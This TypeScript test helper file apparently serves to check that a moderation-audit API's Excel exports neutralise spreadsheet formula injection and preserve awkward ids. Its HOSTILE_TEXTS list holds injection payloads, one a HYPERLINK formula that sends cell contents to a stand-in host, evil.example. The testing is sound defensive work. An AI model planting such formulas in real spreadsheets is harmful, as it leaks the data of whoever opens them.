import ExcelJS from "exceljs";
import { expect } from "vitest";
import type { TestContext } from "../helpers.ts";

export const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/** Ids a spreadsheet mangles when it guesses types: zeros dropped, E-notation, rounded, a date, a formula. */
export const TRICKY_IDS = [
  "00002082",
  "1234567890123456789",
  "3/4",
  "1E5",
  "3153E3",
  "-17",
  "=x",
  "0.10",
  "증오-01",
];

/** Cell texts a spreadsheet would run as formulas if they reached it unguarded. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\t=1+2",
  "\r=1+3",
  " =1+4 ",
];

/** One audit per tricky id (and one per hostile text in notes, queue, moderator): Korean, ms timestamps. */
export function trickyAudits(): Record<string, unknown>[] {
  const audits: Record<string, unknown>[] = TRICKY_IDS.map((id, i) => ({
    id,
    decisionId: TRICKY_IDS[(i + 1) % TRICKY_IDS.length],
    queue: i % 2 ? "증오발언" : "spam",
    moderator: `모더레이터-${i}`,
    auditor: "alice",
    outcome: i % 3 ? "correct" : "incorrect",
    ...(i % 3 ? {} : { errorType: "false-positive", severity: 3 }),
    policy: "P1",
    market: "KR",
    decidedAt: "2026-11-20T10:00:00Z",
    auditedAt: `2026-11-24T0${i % 10}:30:00.${String(100 + i).padStart(3, "0")}+09:00`,
    notes: `메모 ${i}, "quoted" Tom &amp; Jerry _x0041_\nsecond line`,
  }));
  HOSTILE_TEXTS.forEach((text, i) => {
    audits.push({
      id: `hostile-${i}`,
      decisionId: text,
      queue: text,
      moderator: text,
      auditor: "alice",
      outcome: "incorrect",
      errorType: "wrong-policy",
      policy: text,
      correctPolicy: text,
      market: text,
      auditedAt: "2026-11-25T12:00:00+09:00",
      notes: text,
    });
  });
  return audits;
}

export async function seedAudits(ctx: TestContext): Promise<Record<string, unknown>[]> {
  const audits = trickyAudits();
  const res = await ctx.call("POST", "/v1/audits", { key: ctx.keys.lead, json: audits });
  expect(res.status, res.text).toBe(200);
  return audits;
}

/** A population whose ids and values are tricky or hostile, drawn whole, returning the sample id. */
export async function seedSample(ctx: TestContext): Promise<string> {
  const rows = [...TRICKY_IDS, ...HOSTILE_TEXTS].map((id, i) => ({
    id,
    queue: i % 2 ? "증오발언" : HOSTILE_TEXTS[i % HOSTILE_TEXTS.length],
    moderator: HOSTILE_TEXTS[(i + 1) % HOSTILE_TEXTS.length],
    policy: "P1",
    market: "KR",
    decidedAt: "2026-11-20T10:00:00.250Z",
    content: `내용 ${i}`,
  }));
  const population = await ctx.call("POST", "/v1/populations", {
    key: ctx.keys.lead,
    body: rows.map((row) => JSON.stringify(row)).join("\n"),
    headers: { "content-type": "application/x-ndjson" },
  });
  expect(population.status, population.text).toBe(201);
  const sample = await ctx.call("POST", "/v1/samples", {
    key: ctx.keys.lead,
    json: { population: population.body.id, total: rows.length, seed: "xlsx" },
  });
  expect(sample.status, sample.text).toBe(201);
  return sample.body.id;
}

/** GET a binary export: status, headers and bytes. */
export async function download(ctx: TestContext, path: string, key = ctx.keys.lead) {
  const response = await ctx.app.request(path, { headers: { authorization: `Bearer ${key}` } });
  return {
    status: response.status,
    headers: response.headers,
    bytes: Buffer.from(await response.arrayBuffer()),
  };
}

export async function workbookOf(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook;
}

/** A cell's value with inline rich text (how the exports write text) flattened to its string. */
export function plain(value: ExcelJS.CellValue): ExcelJS.CellValue {
  if (value && typeof value === "object" && "richText" in value)
    return value.richText.map((run) => run.text).join("");
  return value;
}

/**
 * A sheet as header → values rows (text as strings, numbers, Dates, formula objects as exceljs reads them; exceljs
 * decodes `_x000D_` in rich and shared text as spreadsheets do).
 */
export function sheetRows(sheet: ExcelJS.Worksheet): Record<string, ExcelJS.CellValue>[] {
  const header = (sheet.getRow(1).values as ExcelJS.CellValue[])
    .slice(1)
    .map((value) => String(plain(value)));
  const rows: Record<string, ExcelJS.CellValue>[] = [];
  sheet.eachRow((row, number) => {
    if (number === 1) return;
    rows.push(Object.fromEntries(header.map((name, i) => [name, plain(row.getCell(i + 1).value)])));
  });
  return rows;
}

/** Every cell of every sheet that holds a formula, as `sheet!A1: formula`. */
export function formulaCells(workbook: ExcelJS.Workbook): string[] {
  const found: string[] = [];
  workbook.eachSheet((sheet) => {
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula || cell.formula)
          found.push(`${sheet.name}!${cell.address}: ${cell.formula}`);
      });
    });
  });
  return found;
}

export const postXlsx = (ctx: TestContext, path: string, bytes: Uint8Array, key = ctx.keys.lead) =>
  ctx.call("POST", path, { key, body: bytes, headers: { "content-type": XLSX } });

/** A closed calibration session whose items and categories are texts a spreadsheet would run as formulas. */
export async function closedCalibration(ctx: TestContext): Promise<string> {
  const categories = ["=1+1", "+ok", "@spam"];
  const created = await ctx.call("POST", "/v1/calibrations", {
    key: ctx.keys.lead,
    json: {
      name: "=HYPERLINK(1)",
      categories,
      items: HOSTILE_TEXTS.slice(0, 4).map((id, i) => ({ id, gold: categories[i % 3] })),
      raters: ["alice", "bob"],
    },
  });
  expect(created.status, created.text).toBe(201);
  const id = created.body.id as string;
  for (const [r, rater] of ["alice", "bob"].entries()) {
    const ratings = Object.fromEntries(
      HOSTILE_TEXTS.slice(0, 4).map((item, i) => [item, categories[(i + r) % 3]]),
    );
    const res = await ctx.call("PUT", `/v1/calibrations/${id}/ratings/${rater}`, {
      key: ctx.keys.lead,
      json: { ratings },
    });
    expect(res.status, res.text).toBe(200);
  }
  expect((await ctx.call("POST", `/v1/calibrations/${id}/close`, { key: ctx.keys.lead })).status).toBe(200);
  return id;
}
